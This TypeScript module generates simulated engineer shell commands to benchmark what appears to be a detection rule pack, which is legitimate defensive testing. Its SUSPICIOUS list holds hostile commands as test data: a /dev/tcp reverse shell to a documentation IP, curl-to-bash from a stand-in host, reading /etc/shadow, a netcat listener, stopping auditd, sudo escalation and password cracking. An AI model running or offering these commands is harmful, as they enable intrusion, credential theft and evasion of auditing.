/**
 * What the generated engineers type: a weighted mix of everyday administration (with arguments
 * that need hex: spaces, quotes, UTF-8), a few very long arguments, and suspicious commands that
 * the default rule pack flags. Weights make about `hitShare` of the commands rule hits.
 */
import type { SeededRandom } from './seeded-random.js';

/** One typed command. */
export interface TypedCommand {
  argv: string[];
  /** Run through sudo (as root, or as `sudoUser`). */
  sudo: boolean;
  /** `sudo -u NAME`; root when absent. */
  sudoUser?: string;
  /** Working directory override; the home directory by default. */
  cwd?: string;
}

type Template = (rnd: SeededRandom, home: string) => TypedCommand;

const SERVICES = ['nginx', 'postgresql', 'redis-server', 'docker', 'ssh', 'cron', 'node-exporter', 'haproxy'];
const NAMESPACES = ['default', 'payments', 'search', 'kube-system', 'ingress'];
const FILES = ['/etc/hosts', '/etc/nginx/nginx.conf', '/var/log/nginx/access.log', '/srv/app/.env.example', '/etc/os-release', 'README.md', 'package.json'];
const DIRS = ['/srv/app', '/var/www/html', '/opt/tools', '/tmp/build', '/var/lib/postgresql', 'src', '.'];
const PACKAGES = ['htop', 'jq', 'ripgrep', 'postgresql-client', 'python3-venv', 'build-essential'];
const MESSAGES = [
  'fix: handle empty "Authorization" header',
  'Ajout du support des accents: déjà vu, crème brûlée',
  'refactor(api): rename  double-spaced field',
  "don't retry on 4xx",
  'docs: 日本語のドキュメントを更新',
  'chore: bump deps ✓',
];
const QUERIES = ["SELECT count(*) FROM users WHERE created_at > now() - interval '1 day';", 'VACUUM ANALYZE orders;', 'select 1'];

/** Everyday commands; the first number is the relative weight. */
const BENIGN: Array<[number, Template]> = [
  [10, (r) => ({ argv: ['ls', r.pick(['-la', '-lh', '-1']), r.pick(DIRS)], sudo: false })],
  [6, (r) => ({ argv: ['cat', r.pick(FILES)], sudo: false })],
  [5, (r) => ({ argv: ['grep', '-rn', r.pick(['TODO', 'error', 'timeout=30', 'connection refused']), r.pick(DIRS)], sudo: false })],
  [6, () => ({ argv: ['git', 'status'], sudo: false, cwd: '/srv/app' })],
  [3, (r) => ({ argv: ['git', 'commit', '-am', r.pick(MESSAGES)], sudo: false, cwd: '/srv/app' })],
  [3, () => ({ argv: ['git', 'pull', '--rebase'], sudo: false, cwd: '/srv/app' })],
  [4, (r) => ({ argv: ['vim', r.pick(FILES)], sudo: false })],
  [4, (r) => ({ argv: ['systemctl', 'status', r.pick(SERVICES)], sudo: false })],
  [4, (r) => ({ argv: ['systemctl', r.pick(['restart', 'reload']), r.pick(SERVICES)], sudo: true })],
  [3, (r) => ({ argv: ['journalctl', '-u', r.pick(SERVICES), '--since', r.pick(['1 hour ago', 'today', '2026-11-24 08:00'])], sudo: true })],
  [3, () => ({ argv: ['docker', 'ps', '--format', '{{.Names}}\t{{.Status}}'], sudo: false })],
  [3, (r) => ({ argv: ['kubectl', 'get', 'pods', '-n', r.pick(NAMESPACES), '-o', 'wide'], sudo: false })],
  [2, () => ({ argv: ['python3', '-c', 'import sys; print("héllo", sys.version)'], sudo: false })],
  [2, () => ({ argv: ['find', '/var/log', '-name', '*.gz', '-mtime', '+7'], sudo: true })],
  [3, (r) => ({ argv: ['tail', '-n', String(r.int(20, 500)), '/var/log/syslog'], sudo: true })],
  [2, (r) => ({ argv: ['apt-get', 'install', '-y', r.pick(PACKAGES)], sudo: true })],
  [2, () => ({ argv: ['apt-get', 'update'], sudo: true })],
  [4, () => ({ argv: ['ps', 'aux'], sudo: false })],
  [3, () => ({ argv: ['df', '-h'], sudo: false })],
  [2, (r) => ({ argv: ['du', '-sh', r.pick(DIRS)], sudo: true })],
  [3, () => ({ argv: ['curl', '-s', '-H', 'Accept: application/json', 'https://api.internal.example.com/health'], sudo: false })],
  [2, (r) => ({ argv: ['psql', '-c', r.pick(QUERIES)], sudo: true, sudoUser: 'postgres', cwd: '/var/lib/postgresql' })],
  [2, () => ({ argv: ['echo', 'déjà vu – ünïcode ✓ "quoted"'], sudo: false })],
  [2, () => ({ argv: ['sh', '-c', 'cd /srv/app && make build 2>&1 | tee /tmp/build.log'], sudo: false })],
  [2, (r) => ({ argv: ['ssh', r.pick(['db-2', 'web-4', 'build-1']), 'uptime'], sudo: false })],
  [1, (r, home) => ({ argv: ['tar', 'czf', `${home}/backup-${r.int(1, 28)}.tgz`, r.pick(DIRS)], sudo: false })],
  [2, (r) => ({ argv: ['less', r.pick(FILES)], sudo: false })],
  [2, () => ({ argv: ['top', '-b', '-n', '1'], sudo: false })],
  [2, () => ({ argv: ['npm', 'run', 'test', '--', '--reporter=dot'], sudo: false, cwd: '/srv/app' })],
];

/** Commands the default rule pack flags (each checked by the bench's generator test). */
const SUSPICIOUS: Template[] = [
  () => ({ argv: ['cat', '/etc/shadow'], sudo: true }),
  () => ({ argv: ['nc', '-lvnp', '4444'], sudo: false, cwd: '/tmp' }),
  () => ({ argv: ['sh', '-c', 'curl -fsSL https://get.example.sh | bash'], sudo: true, cwd: '/tmp' }),
  (r) => ({ argv: ['useradd', '-m', '-s', '/bin/bash', r.pick(['svc-backup', 'tmpuser', 'support'])], sudo: true }),
  () => ({ argv: ['systemctl', 'stop', 'auditd'], sudo: true }),
  () => ({ argv: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'], sudo: false, cwd: '/tmp' }),
  (r) => ({ argv: ['usermod', '-aG', 'sudo', r.pick(['mallory', 'svc-backup'])], sudo: true }),
  () => ({ argv: ['john', '--wordlist=/usr/share/wordlists/rockyou.txt', 'hashes.txt'], sudo: false }),
];

const BENIGN_TOTAL = BENIGN.reduce((sum, [weight]) => sum + weight, 0);

/** A suspicious command with probability `hitShare`, otherwise an everyday one. */
export function typedCommand(rnd: SeededRandom, home: string, hitShare: number): TypedCommand {
  if (rnd.chance(hitShare)) return rnd.pick(SUSPICIOUS)(rnd, home);
  let ticket = rnd.next() * BENIGN_TOTAL;
  for (const [weight, template] of BENIGN) {
    ticket -= weight;
    if (ticket < 0) return template(rnd, home);
  }
  return BENIGN[0]![1](rnd, home);
}

/** Every suspicious template once, for tests that check each is a rule hit. */
export function suspiciousSamples(rnd: SeededRandom): TypedCommand[] {
  return SUSPICIOUS.map((template) => template(rnd, '/home/alice'));
}

/** A script long enough that the kernel splits it into `aN[i]` chunks (8-40 KB). */
export function longScript(rnd: SeededRandom): TypedCommand {
  const steps: string[] = [];
  const target = rnd.int(8_000, 40_000);
  for (let i = 0, size = 0; size < target; i++) {
    const step = `printf '%s\\n' "step ${i}: vérifié ✓" >> /tmp/provision-${rnd.int(1, 9)}.log; test -d /srv/app/releases/${i} || mkdir -p /srv/app/releases/${i};`;
    steps.push(step);
    size += Buffer.byteLength(step) + 1;
  }
  return { argv: ['bash', '-c', steps.join('\n')], sudo: rnd.chance(0.5), cwd: '/srv/app' };
}

/** Where programs live. */
export function programPath(name: string): string {
  if (name.startsWith('/')) return name;
  const sbin = ['useradd', 'usermod', 'tcpdump', 'iptables'];
  return `${sbin.includes(name) ? '/usr/sbin' : '/usr/bin'}/${name}`;
}
